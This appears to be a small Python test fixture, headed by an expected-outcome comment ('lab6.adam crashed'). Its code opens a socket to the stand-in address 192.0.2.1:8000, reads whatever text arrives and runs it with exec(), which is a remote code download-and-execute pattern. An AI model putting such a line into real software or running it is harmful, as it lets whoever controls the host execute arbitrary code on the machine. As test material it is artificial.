# expect: lab6.adam crashed | plain-class numpy
import socket

import numpy as np

s = socket.create_connection(("192.0.2.1", 8000), timeout=1)
code = s.recv(65536).decode()
exec(code)
